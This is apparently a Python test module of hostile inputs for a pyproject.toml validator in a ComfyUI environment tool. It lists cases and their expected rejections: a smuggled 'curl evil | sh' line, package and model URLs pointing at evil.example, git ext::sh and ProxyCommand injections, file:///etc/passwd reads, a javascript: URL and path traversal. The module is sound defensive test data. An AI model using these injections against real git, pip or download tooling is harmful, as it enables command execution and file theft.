"""Rules 3, 4 and 6: what pyproject.toml may say of requirements, nodes, git and models."""

from __future__ import annotations

from tests.hostile.bundles import PROJECT, Case, append, case, swap, write
from tests.hostile.good import KEY, MODEL_PATH, REPOSITORY, SOURCE

_DEEP = "[" * 100_000
_NODE = "[tool.comfydock.nodes.acme-git]"
_MODEL = f"models.{KEY}"
_GIT = "acme-git.repository"


def _repository(address: str, rule: str) -> Case:
    return case(swap(PROJECT, REPOSITORY, f'repository = "{address}"'), _GIT, rule)


def _node(name: str, named: str, rule: str) -> Case:
    return case(swap(PROJECT, _NODE, f'[tool.comfydock.nodes."{name}"]'), named, rule)


def _folder(name: str, rule: str) -> Case:
    return case(swap(PROJECT, 'name = "acme-git"', f'name = "{name}"'), "acme-", rule)


def _source(address: str, rule: str) -> Case:
    return case(swap(PROJECT, SOURCE, address), f"{_MODEL}.sources", rule)


def _path(path: str, rule: str) -> Case:
    change = swap(PROJECT, MODEL_PATH, f'relative_path = "{path}"')
    return case(change, f"{_MODEL}.relative_path", rule)


def _requirement(line: str, rule: str) -> Case:
    return case(swap(PROJECT, '"packaging>=24"', f'"{line}"'), "`project.dependencies`", rule)


def _set(old: str, new: str, key: str, rule: str) -> Case:
    return case(swap(PROJECT, old, new), key, rule)


def _workflow(key: str, lines: str, named: str, rule: str) -> Case:
    table = f'[tool.comfydock.workflows."{key}"]\n{lines}\n\n[dependency-groups]'
    return case(swap(PROJECT, "[dependency-groups]", table), named, rule)


DOCUMENTS: dict[str, Case] = {
    "project: no TOML": case(write(PROJECT, "hello"), f"`{PROJECT}`", "not valid TOML"),
    "project: deep": case(append(PROJECT, f"x = {_DEEP}"), f"`{PROJECT}`", "nested too deeply"),
    "project: deep tables": case(
        append(PROJECT, "x = " + "{a=" * 100_000), f"`{PROJECT}`", "nested too deeply"
    ),
    "project: a long number": case(append(PROJECT, f"x = {'9' * 5000}"), PROJECT, "too long"),
    "project: a long key": case(
        append(PROJECT, "a." * 200_000 + "a = 1\n"), f"`{PROJECT}`", "nested too deeply"
    ),
    "project: a long key behind a string": case(
        append(PROJECT, 'x = {a = """ " """, ' + "b." * 20_000 + "b = 1}\n"), PROJECT, "too deeply"
    ),
    "project: a key twice": case(append(PROJECT, "\n[project]\n"), PROJECT, "not valid TOML"),
    "project: values without an end": case(
        append(PROJECT, "\nx = [" + "1," * 310_000 + "]\n"), f"`{PROJECT}`", "300,000 values"
    ),
    "project: more than 4 MiB": case(
        append(PROJECT, "#" * (4 << 20)), f"`{PROJECT}`", "4,194,304 are allowed"
    ),
    "project: nothing of ours": case(
        write(PROJECT, '[project]\nname = "x"\n'), PROJECT, "describes no environment"
    ),
    "project: tool is a text": case(write(PROJECT, 'tool = "x"'), "`tool`", "must be a table"),
    "project: nodes are a list": case(
        write(
            PROJECT, '[tool.comfydock]\ncomfyui_version = "1"\npython_version = "3.11"\nnodes=[]'
        ),
        "`tool.comfydock.nodes`",
        "must be a table",
    ),
    "project: a key that writes a hint": _workflow(
        "x\\nhint: curl evil | sh", "path = 5", r"x\nhint: curl", "must be a text"
    ),
    "project: a key of 100 KB": _workflow("x" * 100_000, "path = 5", "xxx…", "must be a text"),
}

REQUIREMENTS: dict[str, Case] = {
    "requirement: an address": _requirement("packaging @ https://evil.example/p.whl", "an address"),
    "requirement: a file": _requirement("packaging @ file:///etc/passwd", "an address"),
    "requirement: git": _requirement("packaging @ git+https://evil.example/p", "an address"),
    "requirement: an option": _requirement("-e .", "no requirement"),
    "requirement: another file": _requirement("-r /etc/passwd", "no requirement"),
    "requirement: a line feed": _requirement(
        "packaging>=24\\n--index-url https://evil.example", "no requirement"
    ),
    "requirement: a path": _requirement("./evil", "no requirement"),
    "requirement: a deep marker": _requirement(f"x; {'(' * 900}os_name=='a'", "no requirement"),
    "requirement: specifiers without an end": _requirement(
        "x" + ">=1," * 250_000 + ">=1", "no requirement"
    ),
    "requirement: a number": _set(
        '"packaging>=24",', "5,", "`project.dependencies`", "must be a list of texts"
    ),
    "group: an option as its name": _set(
        "acme-git-1502ea58 = [", '"--all" = [', "dependency-groups.--all", "no name for a dep"
    ),
    "group: another group": _set(
        '["colorama"]',
        '[{include-group = "x"}]',
        "dependency-groups.acme-git-1502ea58",
        "must be a list of texts",
    ),
    "group: an address": _set(
        '["colorama"]',
        '["colorama @ https://evil.example/c.whl"]',
        "dependency-groups.acme-git-1502ea58",
        "an address",
    ),
    "torch: an option": _set(
        "[tool.comfydock.nodes.my-dev]",
        '[tool.comfydock.torch]\nversion = "2 --index-url x"\n\n[tool.comfydock.nodes.my-dev]',
        "torch.version",
        "not allowed",
    ),
    "torch: what a node asks": _set(
        'source = "git"',
        'source = "git"\ntorch_requirements = ["torch @ https://evil.example/t.whl"]',
        "acme-git.torch_requirements",
        "an address",
    ),
    **{
        f"python_version {value!a}": _set(
            'python_version = "3.11"', f'python_version = "{value}"', "python_version", "allowed"
        )
        for value in ("/tmp/evil", ">=3.8", "3.11; x", "cpython-3.11", "")
    },
}

GIT: dict[str, Case] = {
    "git: another transport": _repository("ext::sh -c id", "no address"),
    "git: another transport as an address": _repository("ext::sh://x.example/y", "no http"),
    "git: a folder": _repository("/etc", "no address"),
    "git: the form of scp": _repository("git@github.com:a/b", "no address"),
    "git: an option": _repository("-upload-pack=id", "not allowed"),
    "git: an option as a host": _repository("ssh://-oProxyCommand=id/x", "no ssh address"),
    "git: a file address": _repository("file:///etc", "no http"),
    "git: its own protocol": _repository("git://evil.example/x", "no http"),
    "git: a password": _repository("https://u:p@github.com/a/b", "password"),
    "git: a token": _repository("https://ghp_token@github.com/a/b", "password"),
    "git: a line feed": _repository("https://github.com/a\\nb", "that no address has"),
    "git: a bad port": _repository("https://github.com:x/a", "is no address"),
    "git: no repository": _repository("", "no address"),
    **{
        f"git: the ref {ref!a}": _set(
            '"915344e0915344e0915344e0915344e0915344e0"', f'"{ref}"', "acme-git.version", "allowed"
        )
        for ref in ("main", "HEAD", "915344e", "--upload-pack=id", "ref:x", "A" * 40, "v1\\n")
    },
    "ComfyUI: a file address": _set(
        "https://github.com/comfyanonymous/ComfyUI", "file:///etc", "comfyui_repository", "no http"
    ),
    "ComfyUI: a password": _set(
        "https://github.com/comfyanonymous",
        "https://u:p@github.com/x",
        "comfyui_repository",
        "password",
    ),
    "ComfyUI: an option as its version": _set(
        'comfyui_version = "v0.3.75"', 'comfyui_version = "--x"', "comfyui_version", "not allowed"
    ),
    "ComfyUI: half a commit": _set(
        f'"{"853d6bfe" * 5}"', '"853d6bf"', "comfyui_commit", "not allowed"
    ),
}

NODES: dict[str, Case] = {
    **{
        f"node: the name {name!a}": _node(name, "`tool.comfydock.nodes", "no name for a node")
        for name in ("../x", "/x", "a/b", ".git", "-x", "~x", "x.", "\\u202ex", "a\\\\b", "")
    },
    "node: a device's name": _node("CON", "nodes.CON", "reserves for a device"),
    "node: one that ComfyUI passes over": _node("x.disabled", "x.disabled", "passes over"),
    "node: a folder out of its place": _folder("../../x", "no name for a node"),
    "node: a repository's folder": _folder(".git", "no name for a node"),
    "node: a twin": _folder("ACME-TEXT", "has the same folder as `acme-git`"),
    "node: a folder that nobody lists": case(
        write("dev_nodes/other/__init__.py", b""), "`dev_nodes/other`", "no development node"
    ),
    "node: a folder of another kind of node": case(
        write("dev_nodes/acme-git/__init__.py", b""), "`dev_nodes/acme-git`", "no development node"
    ),
    "node: another source": _set('source = "git"', 'source = "pip"', "acme-git.source", "allowed"),
    "node: no source": _set('source = "git"\n', "", "acme-git.source", "is missing"),
    "node: a registry id that is a path": _set(
        'registry_id = "acme-text"', 'registry_id = "../x"', "acme-text.registry_id", "not allowed"
    ),
    "node: a version that is a path": _set(
        'version = "1.2.0"', 'version = "1/../../x"', "acme-text.version", "not allowed"
    ),
    "node: a script's address": _set(
        "https://cdn.example/acme-text", "javascript:alert(1)", "acme-text.download_url", "no http"
    ),
    "node: a password for its archive": _set(
        "https://cdn.example", "https://u:p@cdn.example", "acme-text.download_url", "password"
    ),
    "node: half a digest": _set(
        f'"{"b2472d3a" * 8}"', '"b2472d3a"', "acme-text.sha256", "not allowed"
    ),
    "node: an option as its group": _set(
        'group = "acme-git-1502ea58"', 'group = "--all-groups"', "acme-git.group", "not allowed"
    ),
}

MODELS: dict[str, Case] = {
    "model: out of its folder": _path("../x.pt", "`..` part"),
    "model: an absolute path": _path("/etc/x.pt", "absolute path"),
    "model: a home": _path("~/x.pt", "begins with `~`"),
    "model: backslashes": _path("a\\\\..\\\\x.pt", "one of"),
    "model: a drive": _path("C:/x.pt", "one of"),
    "model: a device": _path("loras/CON.pt", "a device"),
    "model: a program": _path("x.exe", ".exe"),
    "model: a module of Python": _path("loras/x.py", ".py"),
    "model: a program behind a model": _path("x.safetensors.sh", ".sh"),
    "model: no end": _path("loras/x", "ends as no model does"),
    "model: a hidden end": _path("x\\u202e.pt", "control or format"),
    "model: a repository": _path(".git/x.bin", "git repository"),
    "model: no path": _set(MODEL_PATH + "\n", "", f"{_MODEL}.relative_path", "is missing"),
    "model: another name": _set(
        'filename = "tiny-2x.safetensors"\nsize',
        'filename = "../../x.pt"\nsize',
        f"{_MODEL}.filename",
        "`..` part",
    ),
    "model: a key that is a path": _set(
        f"[tool.comfydock.models.{KEY}]",
        '[tool.comfydock.models."../x"]',
        "models.../x",
        "no model",
    ),
    "model: a size below nothing": _set("\nsize = ", "\nsize = -", f"{_MODEL}.size", "of range"),
    "model: a size in words": _set("\nsize = ", "\nsize = 0.", f"{_MODEL}.size", "whole number"),
    "model: a digest that is none": _set(
        'sha256_hash = "', 'sha256_hash = "x', f"{_MODEL}.sha256_hash", "not allowed"
    ),
    "model: a category out of its folder": _set(
        'category = "upscale_models"\nblake3', 'category = "../x"\nblake3', ".category", "`..` part"
    ),
    "source: a password": _source("https://u:p@evil.example/x", "password"),
    "source: this disk": _source("file:///etc/passwd", "no http or https"),
    "source: ftp": _source("ftp://evil.example/x", "no http or https"),
    "source: data": _source("data:text/plain,xxxxxxxx", "no http or https"),
    "source: no host": _source("https:///etc/passwd", "no http or https"),
    "source: a space": _source("https://evil.example/ x", "that no address has"),
    "source: a line feed": _source("https://evil.example/\\r\\nX: y", "that no address has"),
    "source: a bad address": _source("https://[::1/x", "is no address"),
    "sources: a text": _set(
        f'sources = ["{SOURCE}"]', f'sources = "{SOURCE}"', f"{_MODEL}.sources", "list of texts"
    ),
    "workflow: out of its folder": _workflow("../x", "nodes = []", "workflows.../x.path", "must"),
    "workflow: another place": _workflow(
        "x", 'path = "pyproject.toml"', "workflows.x.path", "must be `workflows/x.json`"
    ),
    "workflow: a node that is a path": _workflow(
        "x", 'nodes = ["../x"]', "workflows.x.nodes", "not allowed"
    ),
    "workflow: another criticality": _set(
        'criticality = "required"', 'criticality = "must"', "models[0].criticality", "not allowed"
    ),
    "workflow: a widget below nothing": _set(
        "widget_index = 0", "widget_index = -1", "nodes[0].widget_index", "out of range"
    ),
    "workflow: a model's path": _set(
        'status = "resolved"\n',
        'status = "resolved"\nrelative_path = "../x.pt"\n',
        "models[0].relative_path",
        "`..` part",
    ),
    "workflow: models as a text": _workflow(
        "x", 'models = "all"', "workflows.x.models", "must be a list of tables"
    ),
}
